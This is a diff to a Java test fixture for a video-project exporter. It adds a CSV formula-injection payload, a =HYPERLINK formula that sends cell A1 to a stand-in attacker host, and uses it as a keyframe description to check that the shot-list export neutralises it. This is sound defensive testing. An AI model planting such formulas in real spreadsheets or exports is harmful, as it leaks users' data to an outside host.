@@ -36,6 +36,8 @@ final class SampleProject {
     static final String JAPANESE = "雨の夜、駅のホームで二人は再会する。";
     static final String RUSSIAN = "Старый маяк стоит на краю обрыва.";
     static final String ARABIC = "مرحبا بالعالم";
+    /** A keyframe description a spreadsheet would run, were it not neutralised in the CSV shot list. */
+    static final String FORMULA = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Волны бьются о скалы.\")";
 
     final Path dir;
     final Project project;
@@ -57,7 +59,7 @@ final class SampleProject {
         }
         // scene id 12: Russian + Arabic, keyframes at 0 and 2 s of a 3.5 s scene
         keyframes.add(keyframe(kid++, 12, 0, 0, RUSSIAN + " " + ARABIC, png("ru_0.png", new Color(160, 80, 40))));
-        keyframes.add(keyframe(kid++, 12, 1, 2, "Волны бьются о скалы.", png("ru_1.png", new Color(60, 140, 70))));
+        keyframes.add(keyframe(kid++, 12, 1, 2, FORMULA, png("ru_1.png", new Color(60, 140, 70))));
         // scene id 10 has a clip, and a keyframe too (shown in the PDF and PNG sequence)
         keyframes.add(keyframe(
                 kid,
